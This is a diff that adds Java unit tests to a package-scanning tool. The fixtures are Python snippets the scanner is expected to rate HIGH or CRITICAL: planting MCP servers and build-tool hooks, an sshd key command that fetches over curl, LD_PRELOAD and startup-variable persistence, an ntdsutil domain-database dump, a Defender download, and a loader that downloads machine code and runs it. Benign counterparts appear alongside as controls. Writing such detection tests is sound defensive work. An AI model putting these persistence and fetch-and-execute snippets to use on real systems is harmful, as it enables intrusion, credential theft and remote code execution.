@@ -3351,6 +3351,107 @@ class ContentRuleTest {
     assertThat(check(wheelWith("pkg/conf.py", tmuxConfRead))).isEmpty();
   }
 
+  @Test
+  void aiClientServersSshKeyCommandsAndBuildToolHooksAreFlagged() {
+    String mcp =
+        "import json, os, sys\nP = os.path.expanduser('~/.cursor/mcp.json')\n"
+            + "config = json.load(open(P))\n"
+            + "config.setdefault('mcpServers', {})['helper'] = {'command': sys.executable}\n"
+            + "with open(P, 'w', encoding='utf-8') as fh:\n    json.dump(config, fh)\n";
+    String sshd =
+        "LINE = 'AuthorizedKeysCommand /usr/bin/curl -fsS https://keys.example/%u'\n"
+            + "with open('/etc/ssh/sshd_config', 'a') as fh:\n    fh.write(LINE)\n";
+    String cargo =
+        "import os\nwith open(os.path.expanduser('~/.cargo/config.toml'), 'a') as fh:\n"
+            + "    fh.write(f'\\n[build]\\nrustc-wrapper = \"{W}\"\\n')\n";
+    String go =
+        "import subprocess\nsubprocess.run(['go', 'env', '-w', f'GOFLAGS=-toolexec={T}'])\n";
+    String gradle =
+        "import os\nd = os.path.join(os.path.expanduser('~/.gradle'), 'init.d')\n"
+            + "with open(os.path.join(d, 'sync.gradle'), 'w', encoding='utf-8') as fh:\n"
+            + "    fh.write(SCRIPT)\n";
+    String mcpInstaller = mcp.replace("sys.executable", "'uv', 'args': ['run', 'server.py']");
+    String sshdRead = "with open('/etc/ssh/sshd_config') as fh:\n    options = fh.read()\n";
+    String wrapperHelp = "HELP = 'speed builds up: rustc-wrapper = \"sccache\" in config.toml'\n";
+
+    assertThat(levelIn(mcp, "plants-mcp-server")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(sshd, "sshd-runs-key-command")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(cargo, "build-tool-hook-planted")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(go, "build-tool-hook-planted")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(gradle, "build-tool-hook-planted")).isEqualTo(RiskLevel.HIGH);
+    // a server registered to run through uv (as MCP's own installers do), sshd's options read,
+    // a wrapper only suggested in help text
+    assertThat(check(wheelWith("pkg/install.py", mcpInstaller))).isEmpty();
+    assertThat(check(wheelWith("pkg/sshd.py", sshdRead))).isEmpty();
+    assertThat(check(wheelWith("pkg/help.py", wrapperHelp))).isEmpty();
+  }
+
+  @Test
+  void preloadedLibrariesAndStartupFilesPlantedInRepositoriesAreFlagged() {
+    String ci =
+        "import os\nwith open(os.environ['GITHUB_ENV'], 'a') as fh:\n"
+            + "    fh.write(f'LD_PRELOAD={LIB}\\n')\n";
+    String profile =
+        "import os\nwith open(os.path.expanduser('~/.profile'), 'a') as fh:\n"
+            + "    fh.write(f'\\nexport JAVA_TOOL_OPTIONS=\"-javaagent:{JAR}\"\\n')\n";
+    String setx = "import subprocess\nsubprocess.run(['setx', 'NODE_OPTIONS', f'--require {H}'])\n";
+    String envrc =
+        "import os\nfor root, dirs, files in os.walk(HOME):\n    if '.git' in dirs:\n"
+            + "        with open(os.path.join(root, '.envrc'), 'w', encoding='utf-8') as fh:\n"
+            + "            fh.write(LINE)\n";
+    String ciVersion =
+        "import os\nwith open(os.environ['GITHUB_ENV'], 'a') as fh:\n"
+            + "    fh.write(f'VERSION={V}\\n')\n";
+    String childPreload =
+        "import os, subprocess\nenv = dict(os.environ, LD_PRELOAD=JEMALLOC)\n"
+            + "subprocess.run(['ray', 'start'], env=env)\n";
+    String envrcHere = "import pathlib\npathlib.Path('.envrc').write_text('layout python3\\n')\n";
+
+    assertThat(levelIn(ci, "ci-environment-poisoned")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(profile, "shell-profile-preloads")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(setx, "startup-variable-persisted")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(envrc, "envrc-planted")).isEqualTo(RiskLevel.HIGH);
+    // a version handed to later CI steps, a library preloaded for one child, an .envrc written
+    // in the current folder on request
+    assertThat(check(wheelWith("pkg/ci.py", ciVersion))).isEmpty();
+    assertThat(check(wheelWith("pkg/start.py", childPreload))).isEmpty();
+    assertThat(check(wheelWith("pkg/init.py", envrcHere))).isEmpty();
+  }
+
+  @Test
+  void domainDatabaseCopiesLoginPluginsDefenderDownloadsAndFetchedMachineCodeAreFlagged() {
+    String ntds =
+        "import subprocess\nsubprocess.run(['ntdsutil', 'ac i ntds', 'ifm', f'create full {D}',"
+            + " 'q', 'q'])\n";
+    String plugin =
+        "import shutil, subprocess\n"
+            + "shutil.copytree(SRC, '/Library/Security/SecurityAgentPlugins/Sync.bundle')\n"
+            + "subprocess.run(['security', 'authorizationdb', 'write', 'system.login.console'],"
+            + " input=RULE)\n";
+    String defender =
+        "import subprocess\nsubprocess.run([MPCMDRUN, '-DownloadFile', '-url', URL, '-path',"
+            + " T])\n";
+    String fetched =
+        "import ctypes, mmap, urllib.request\ncode = urllib.request.urlopen(URL).read()\n"
+            + "m = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
+            + "m.write(code)\naddress = ctypes.addressof(ctypes.c_char.from_buffer(m))\n"
+            + "ctypes.CFUNCTYPE(ctypes.c_int)(address)()\n";
+    String ownCode = fetched.replace("urllib.request.urlopen(URL).read()", "CPUID_BYTES");
+    String rightsRead =
+        "import subprocess\nsubprocess.run(['security', 'authorizationdb', 'read',"
+            + " 'system.login.console'])\n";
+    String scan = "import subprocess\nsubprocess.run([MPCMDRUN, '-Scan', '-ScanType', '1'])\n";
+
+    assertThat(levelIn(ntds, "dumps-domain-database")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(plugin, "authorization-plugin-installed")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(defender, "defender-download")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(fetched, "runs-fetched-machine-code")).isEqualTo(RiskLevel.CRITICAL);
+    // machine code of its own run as py-cpuinfo runs CPUID, the login rules read, a scan started
+    assertThat(check(wheelWith("pkg/cpu.py", ownCode))).isEmpty();
+    assertThat(check(wheelWith("pkg/rights.py", rightsRead))).isEmpty();
+    assertThat(check(wheelWith("pkg/scan.py", scan))).isEmpty();
+  }
+
   @Nested
   class ImportedAliases {
 
